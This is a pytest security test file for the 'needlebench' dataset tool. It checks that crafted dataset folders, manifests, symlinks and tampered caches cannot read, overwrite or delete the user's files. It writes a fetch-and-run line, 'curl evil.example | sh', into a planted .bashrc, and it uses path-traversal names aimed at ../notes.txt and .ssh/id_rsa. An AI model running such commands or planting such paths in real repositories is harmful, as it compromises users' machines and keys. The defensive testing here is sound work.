"""A dataset folder from anyone never reaches outside itself (issue 28, items 1, 2, 6 and 8).

Each attack runs the `needlebench` command (a subprocess) in a sandbox: a fake HOME holding the user's files
(``.bashrc``, ``notes.txt``, ``.ssh/id_rsa``, a folder of their own Parquet files) and the hostile folder. The
whole sandbox is hashed before and after (contents, modes, link targets and hard-link counts, so a file linked
into a dataset shows too): a refused attack changes nothing at all, exit status 2 and one line naming the file.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from support.sandbox import CLI, DEAD_NAME, REAL_CONFIG, REAL_HF_HOME, git_clone, refused, run, snapshot, warnings_of  # noqa: F401


def _dead_pid() -> int:
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


@pytest.fixture(scope="module")
def dataset(tmp_path_factory) -> Path:
    """A real build of atc_en (the clone's honest part)."""
    from needlebench.dataset.build import build_dataset
    from needlebench.dataset.options import BuildOptions

    out = tmp_path_factory.mktemp("honest") / "ds"
    build_dataset(["atc_en"], out, BuildOptions(), progress=False)
    return out


def _manifest(folder: Path) -> dict:
    return json.loads((folder / "needlebench.json").read_text())


def _write_manifest(folder: Path, manifest) -> None:
    text = manifest if isinstance(manifest, str) else json.dumps(manifest, indent=2)
    (folder / "needlebench.json").write_text(text)


def _tag_of(record: dict) -> str:
    """A marker tag with the user's real secret (what only this machine's builds can write)."""
    try:
        from needlebench.sources.cache import sign
    except ImportError:  # a version without markers: any tag
        return "0" * 64
    return sign(json.dumps(record, sort_keys=True).encode("utf-8")).hex()


def _boot_id() -> str:
    try:
        return Path("/proc/sys/kernel/random/boot_id").read_text().strip()
    except OSError:
        return ""


def _staging(out: Path, pid: int, files: list[str], replaces: list[str], marker: str) -> Path:
    """A staging folder a killed build seems to have left, its card committed: `files` to place, `replaces` to
    remove. `marker`: none, forged (right host, boot id and pid, a recomputed sha256), other-host (a real tag of
    another host), ours (a real tag of this machine), or link (the staging folder is a link to the user's folder)."""
    name = f".building-{pid}-{DEAD_NAME}"
    staging = out / name
    if marker == "link":
        staging = out.parent / "elsewhere"
    staging.mkdir(parents=True)
    (staging / "data" / "atc_en").mkdir(parents=True)
    shutil.copy(out / "data" / "atc_en" / "test-00000-of-00001.parquet", staging / "data" / "atc_en")
    manifest = _manifest(out)
    manifest["configs"]["atc_en"]["files"] = files
    _write_manifest(staging, manifest)
    card = (out / "README.md").read_text()
    (staging / "README.md").write_text(card)
    (staging / "replaces.json").write_text(json.dumps(replaces))
    record = {"host": socket.gethostname(), "boot_id": _boot_id(), "pid": pid, "staging": name}
    if marker == "forged":
        tag = hashlib.sha256(json.dumps(record, sort_keys=True).encode()).hexdigest()
        (staging / ".needlebench-build").write_text(json.dumps({**record, "tag": tag}))
    elif marker == "other-host":
        record["host"] = "another-machine.example"
        (staging / ".needlebench-build").write_text(json.dumps({**record, "tag": _tag_of(record)}))
    elif marker == "ours":
        (staging / ".needlebench-build").write_text(json.dumps({**record, "tag": _tag_of(record)}))
    elif marker == "link":
        (out / name).symlink_to(staging, target_is_directory=True)
    # the card points into the staging folder: a replace committed, not finished (what recovery finishes)
    (out / "README.md").write_text(card.replace("path: data/atc_en/", f"path: {name}/data/atc_en/"))
    return out / name


# --- item 1: staging folders ------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("marker", ["none", "forged", "other-host", "link"])
@pytest.mark.parametrize("absolute", [False, True])
def test_a_crafted_clone_with_a_staging_folder_touches_nothing_outside(dataset, sandbox, marker, absolute):
    """`git clone` of a repo carrying a staging folder (manifest placing ``../.bashrc``, replaces.json removing
    ``../notes.txt``, or absolute paths): never recovered, reported in one warning line, left as it is; the build
    goes on and nothing outside the clone changes."""
    origin = sandbox.parent / "origin"
    shutil.copytree(dataset, origin)
    (origin / ".bashrc").write_text("curl evil.example | sh\n")  # what the staging manifest would place
    if absolute:
        files, replaces = [str(sandbox / ".bashrc")], [str(sandbox / "notes.txt"), str(sandbox / ".ssh" / "id_rsa")]
    else:
        files, replaces = ["../.bashrc"], ["../notes.txt", "data/../../.ssh/id_rsa"]
    staging = _staging(origin, _dead_pid(), files, replaces, marker)
    if marker == "link":  # git does not keep a link to a folder outside: copy the folder as an archive would
        clone = sandbox / "clone"
        shutil.copytree(origin, clone, symlinks=True)
    else:
        clone = git_clone(origin, sandbox / "clone")
    staging = clone / staging.name
    before = snapshot(sandbox.parent, skip=clone)
    staged = snapshot(staging) if not staging.is_symlink() else os.readlink(staging)
    result = run(sandbox, "build", "atc_en", "--out", str(clone))
    assert result.returncode == 0, result.stderr[-2000:]
    assert (sandbox / ".bashrc").read_text().startswith("export PATH") and (sandbox / "notes.txt").exists()
    assert snapshot(sandbox.parent, skip=clone) == before
    assert (snapshot(staging) if not staging.is_symlink() else os.readlink(staging)) == staged
    [warning] = warnings_of(result)
    assert str(staging) in warning and "left untouched" in warning
    assert _manifest(clone)["configs"]["atc_en"] == _manifest(dataset)["configs"]["atc_en"]


@pytest.mark.slow
@pytest.mark.parametrize(
    "field, names",
    [
        ("replaces", ["../notes.txt"]),
        ("replaces", ["data/atc_en/../../../notes.txt"]),
        ("replaces", ["ABSOLUTE"]),
        ("files", ["../.bashrc"]),
        ("files", ["ABSOLUTE"]),
    ],
)
def test_even_our_own_staging_folder_names_only_files_inside(dataset, sandbox, field, names):
    """A staging folder with this machine's marker is recovered, but every name in it is checked first: one
    that reaches outside is refused (exit 2, one line naming it) and nothing at all changes."""
    clone = sandbox / "clone"
    shutil.copytree(dataset, clone)
    (clone / ".bashrc").write_text("curl evil.example | sh\n")
    names = [str(sandbox / "notes.txt") if name == "ABSOLUTE" and field == "replaces" else name for name in names]
    names = [str(sandbox / ".bashrc") if name == "ABSOLUTE" else name for name in names]
    files = names if field == "files" else ["data/atc_en/test-00000-of-00001.parquet"]
    _staging(clone, _dead_pid(), files, names if field == "replaces" else [], "ours")
    before = snapshot(sandbox.parent)
    refused(run(sandbox, "build", "atc_en", "--out", str(clone)), repr(names[0]))
    assert snapshot(sandbox.parent) == before


@pytest.mark.slow
def test_verify_between_the_commit_and_the_finish_recovers_first(sandbox):
    """A build killed right after its commit (the card points into the staging folder, no manifest yet):
    `verify` finishes the replace as a build would, then checks the folder."""
    out = sandbox / "work" / "ds"
    killed = run(sandbox, "build", "atc_en", "--out", str(out), env={"NEEDLEBENCH_TEST_KILL_AT": "4"})
    assert killed.returncode == 77, killed.stderr[-2000:]
    assert not (out / "needlebench.json").exists() and "path: .building-" in (out / "README.md").read_text()
    result = run(sandbox, "verify", str(out))
    assert result.returncode == 0, result.stderr[-2000:]
    assert sorted(p.name for p in out.iterdir()) == ["README.md", "data", "needlebench.json"]


# --- item 2: the output folder's manifest and links -------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("name", ["../.ssh/id_rsa", "data/atc_zh/../../../.ssh/id_rsa", "ABSOLUTE"])
def test_a_kept_config_naming_a_file_outside_is_refused(dataset, sandbox, name):
    """A manifest keeping config atc_zh whose file is the user's key: never linked into the dataset."""
    name = str(sandbox / ".ssh" / "id_rsa") if name == "ABSOLUTE" else name
    clone = sandbox / "clone"
    shutil.copytree(dataset, clone)
    manifest = _manifest(clone)
    manifest["configs"]["atc_zh"] = {**manifest["configs"]["atc_en"], "files": [name]}
    _write_manifest(clone, manifest)
    before = snapshot(sandbox.parent)
    refused(run(sandbox, "build", "atc_en", "--out", str(clone)), repr(name))
    assert snapshot(sandbox.parent) == before


@pytest.mark.slow
@pytest.mark.parametrize("link", ["data/atc_en", "data", "data/atc_en/test-00000-of-00001.parquet", "needlebench.json"])
def test_links_inside_the_output_folder_are_never_followed(dataset, sandbox, link):
    """``data/<config>`` (or ``data``, a listed file, the manifest) as a link to the user's files: a build that
    would delete or replace what the link reaches is refused, naming the link."""
    clone = sandbox / "clone"
    shutil.copytree(dataset, clone)
    target = {
        "data/atc_en": sandbox / "mydata",
        "data": sandbox / "mydata-root",
        "data/atc_en/test-00000-of-00001.parquet": sandbox / ".ssh" / "id_rsa",
        "needlebench.json": sandbox / "manifest-copy.json",
    }[link]
    if link == "data":
        (target / "atc_en").mkdir(parents=True)
        (target / "atc_en" / "test-00000-of-00001.parquet").write_bytes(b"the user's own file")
    if link == "needlebench.json":
        shutil.copy(clone / link, target)
    path = clone / link
    shutil.rmtree(path) if path.is_dir() else path.unlink()
    path.symlink_to(target)
    before = snapshot(sandbox.parent)
    configs = ["atc_zh"] if link.endswith(".parquet") else ["atc_en"]  # keep the linked file, or rebuild it
    result = run(sandbox, "build", *configs, "--out", str(clone))
    refused(result, str(path))
    assert snapshot(sandbox.parent) == before


@pytest.mark.slow
def test_a_new_config_is_never_written_through_a_link(dataset, sandbox):
    """``data/atc_zh`` a link to the user's folder, atc_zh not in the manifest yet: refused before any work."""
    clone = sandbox / "clone"
    shutil.copytree(dataset, clone)
    (clone / "data" / "atc_zh").symlink_to(sandbox / "mydata")
    before = snapshot(sandbox.parent)
    refused(run(sandbox, "build", "atc_zh", "--out", str(clone)), str(clone / "data" / "atc_zh"))
    assert snapshot(sandbox.parent) == before


def _deep() -> str:
    return '{"format": "needlebench-dataset", "format_version": 1, "configs": ' + "[" * 100_000 + "]" * 100_000 + "}"


MALFORMED = {
    "deeply nested": (_deep, "nested too deeply"),
    "configs a list": (lambda m: {**m, "configs": [1, 2]}, '"configs"'),
    "files a string": (
        lambda m: {**m, "configs": {"atc_en": {**m["configs"]["atc_en"], "files": "data/atc_en/x.parquet"}}},
        '"files"',
    ),
    "rows a string": (lambda m: {**m, "configs": {"atc_en": {**m["configs"]["atc_en"], "rows": "3"}}}, '"rows"'),
    "recipe a list": (lambda m: {**m, "recipe": []}, '"recipe"'),
    "format_version a string": (lambda m: {**m, "format_version": "1"}, "format_version"),
    "config name a path": (lambda m: {**m, "configs": {"../x": m["configs"]["atc_en"]}}, "'../x'"),
}


CASES = [("build", case) for case in MALFORMED] + [("verify", "deeply nested"), ("verify", "files a string")]


@pytest.mark.slow
@pytest.mark.parametrize("command, case", CASES)
def test_malformed_manifests_are_one_line_errors(dataset, sandbox, command, case):
    """Wrong types, deep nesting, a config named like a path: one line naming the field (a build with --overwrite
    reads the manifest too: the files it lists are the ones it would remove), nothing changed."""
    change, needle = MALFORMED[case]
    clone = sandbox / "clone"
    shutil.copytree(dataset, clone)
    _write_manifest(clone, change() if case == "deeply nested" else change(_manifest(clone)))
    before = snapshot(sandbox.parent)
    if command == "build":
        result = run(sandbox, "build", "atc_en", "--out", str(clone), "--overwrite")
    else:
        result = run(sandbox, "verify", str(clone))
    refused(result, needle, "needlebench.json")
    assert snapshot(sandbox.parent) == before


# --- item 6: caches -----------------------------------------------------------------------------------------------

_LOAD = """
import json, sys
from needlebench.evaluation.harness.tasks import load_dataset
split = load_dataset(needlebench_config="atc_en")["test"]
print(json.dumps({"answer": split[0]["answer"], "rows": split.num_rows}))
"""


def _load_on_the_fly(home: Path, cache: Path) -> subprocess.CompletedProcess:
    environment = {
        **os.environ,
        "HOME": str(home),
        "XDG_CONFIG_HOME": REAL_CONFIG,
        "HF_HOME": REAL_HF_HOME,
        "NEEDLEBENCH_CACHE": str(cache),
        "HF_DATASETS_CACHE": str(cache.parent / "hf-datasets"),
    }
    return subprocess.run(
        [sys.executable, "-c", _LOAD], capture_output=True, text=True, env=environment, timeout=600, check=False
    )


@pytest.mark.slow
@pytest.mark.parametrize("damage", ["edited answers, fingerprint recomputed", "truncated file"])
def test_a_tampered_dataset_cache_is_rebuilt(sandbox, tmp_path, damage):
    import pyarrow.parquet as pq

    cache = tmp_path / "cache"
    first = _load_on_the_fly(sandbox, cache)
    assert first.returncode == 0, first.stderr[-2000:]
    truth = json.loads(first.stdout.splitlines()[-1])
    [folder] = [p for p in (cache / "datasets").iterdir() if p.is_dir()]
    shard = folder / "data" / "atc_en" / "test-00000-of-00001.parquet"
    if damage == "truncated file":
        shard.write_bytes(shard.read_bytes()[: shard.stat().st_size // 2])
    else:
        table = pq.read_table(shard)
        answers = table.column("answer").to_pylist()
        answers[0] = "tampered"
        table = table.set_column(table.schema.get_field_index("answer"), "answer", [answers])
        pq.write_table(table, shard)
        manifest = _manifest(folder)
        manifest["configs"]["atc_en"]["fingerprint"] = hashlib.sha256(shard.read_bytes()).hexdigest()
        _write_manifest(folder, manifest)
    second = _load_on_the_fly(sandbox, cache)
    assert second.returncode == 0, second.stderr[-2000:]
    [warning] = warnings_of(second)
    assert str(folder) in warning and "built again" in warning
    assert json.loads(second.stdout.splitlines()[-1]) == truth
    third = _load_on_the_fly(sandbox, cache)  # rebuilt and recorded: silent again
    assert third.returncode == 0 and warnings_of(third) == [] and json.loads(third.stdout.splitlines()[-1]) == truth


def _plain_digest(tables: dict) -> str:
    """The digest a tamperer can recompute: sha256 over the arrays (no secret)."""
    import numpy as np

    digest = hashlib.sha256()
    for key in ("tokens", "hard_chars", "hard_tokens", "sentence_chars"):
        array = np.ascontiguousarray(tables[key])
        digest.update(f"{key}\x1f{array.dtype.str}\x1f{array.shape}\x1f".encode())
        digest.update(memoryview(array).cast("B"))
    return digest.hexdigest()


@pytest.mark.slow
def test_a_token_cache_entry_with_a_recomputed_digest_is_not_trusted(sandbox, tmp_path):
    """One token inserted in the middle of the cached token table (the boundary tables shifted to match, so every
    invariant holds) and the entry's digest recomputed: the build notices and recomputes, its rows are right."""
    import numpy as np

    from needlebench.dataset.build import build_dataset
    from needlebench.dataset.options import BuildOptions
    from needlebench.sources import tokenized
    from needlebench.sources.haystacks import corpus_for
    from needlebench.sources.tokenizer import get_tokenizer

    text = corpus_for(None, "zh").text
    tables = {key: np.array(value) for key, value in tokenized._load_or_compute(text, get_tokenizer()).items()}
    name = f"{tokenized._cache_key(text, get_tokenizer())}.npz"
    k = len(tables["hard_tokens"]) // 2
    at = int(tables["hard_tokens"][k])
    tables["tokens"] = np.insert(tables["tokens"], at, tables["tokens"][at]).astype(np.uint32)
    tables["hard_tokens"][k:] += 1
    meta = {**tokenized._entry_meta(text, get_tokenizer())}
    meta["digest"] = meta["tag"] = _plain_digest(tables)
    cache = tmp_path / "cache"
    (cache / "tokens").mkdir(parents=True)
    encoded = np.frombuffer(json.dumps(meta, sort_keys=True).encode("utf-8"), dtype=np.uint8)
    with open(cache / "tokens" / name, "wb") as handle:
        np.savez(handle, **tables, meta=encoded)
    result = run(sandbox, "build", "single_zh_4k", "--out", str(tmp_path / "ds"), env={"NEEDLEBENCH_CACHE": str(cache)})
    assert result.returncode == 0, result.stderr[-2000:]
    [warning] = warnings_of(result)
    assert "token cache entry" in warning and "recomputed" in warning
    reference = build_dataset(["single_zh_4k"], tmp_path / "ref", BuildOptions(), progress=False)
    assert _manifest(tmp_path / "ds")["configs"] == reference["configs"]


# --- item 8 ---------------------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_quoted_tilde_out_is_a_folder_named_tilde(sandbox):
    """``--out '~'`` (quoted: the shell left it alone) is the folder ``./~``, never the home folder."""
    before = snapshot(sandbox.parent, skip=sandbox / "work" / "~")
    result = run(sandbox, "build", "atc_en", "--out", "~")
    assert result.returncode == 0, result.stderr[-2000:]
    assert (sandbox / "work" / "~" / "needlebench.json").is_file()
    assert (sandbox / "work" / "~" / "data" / "atc_en" / "test-00000-of-00001.parquet").is_file()
    assert snapshot(sandbox.parent, skip=sandbox / "work" / "~") == before


@pytest.mark.parametrize("form", ["absolute", "relative", "dot"])
def test_data_repo_takes_only_hub_ids(dataset, tmp_path, monkeypatch, form):
    """lm-eval's ``--metadata '{"data_repo": ...}'`` naming a local folder: a one-line error pointing at data_dir
    (`datasets` would otherwise read the folder)."""
    from needlebench.errors import NeedlebenchError
    from needlebench.evaluation.harness.tasks import load_dataset

    shutil.copytree(dataset, tmp_path / "org" / "ds")
    monkeypatch.chdir(tmp_path)
    repo = {"absolute": str(tmp_path / "org" / "ds"), "relative": "org/ds", "dot": "./org/ds"}[form]
    with pytest.raises(NeedlebenchError) as error:
        load_dataset(needlebench_config="atc_en", data_repo=repo)
    message = str(error.value)
    assert repr(repo) in message and "data_dir" in message and "\n" not in message


@pytest.mark.slow
def test_publishing_again_with_a_relative_folder(dataset, sandbox):
    """`publish ds --to-git repo` twice from the folder holding both: the second is a no-op, not a git error."""
    work = sandbox / "work"
    shutil.copytree(dataset, work / "ds")
    first = run(sandbox, "publish", "ds", "--to-git", "repo", "--version", "1.0.0")
    assert first.returncode == 0, first.stderr[-2000:]
    again = run(sandbox, "publish", "ds", "--to-git", "repo", "--version", "1.0.0")
    assert again.returncode == 0, again.stderr[-2000:]
    assert "already holds this data" in again.stdout + again.stderr


@pytest.mark.slow
def test_build_overwrite_warns_of_shards_the_manifest_does_not_list_and_leaves_them(dataset, sandbox):
    """A clone whose config folder holds a shard its manifest does not list: needlebench never reads it, but a glob
    over the folder would; `build --overwrite` says so once, naming it, and leaves it (the build did not write it)."""
    clone = sandbox / "clone"
    shutil.copytree(dataset, clone)
    (listed,) = _manifest(clone)["configs"]["atc_en"]["files"]
    planted = clone / "data" / "atc_en" / "test-00001-of-00002.parquet"
    planted.write_bytes((clone / listed).read_bytes())
    result = run(sandbox, "build", "atc_en", "--out", str(clone), "--overwrite")
    assert result.returncode == 0, result.stderr[-2000:]
    (warning,) = [line for line in warnings_of(result) if "does not list" in line]
    assert planted.name in warning and "1 Parquet file(s)" in warning and str(clone / "data" / "atc_en") in warning
    assert planted.is_file() and _manifest(clone)["configs"]["atc_en"]["files"] == [listed]
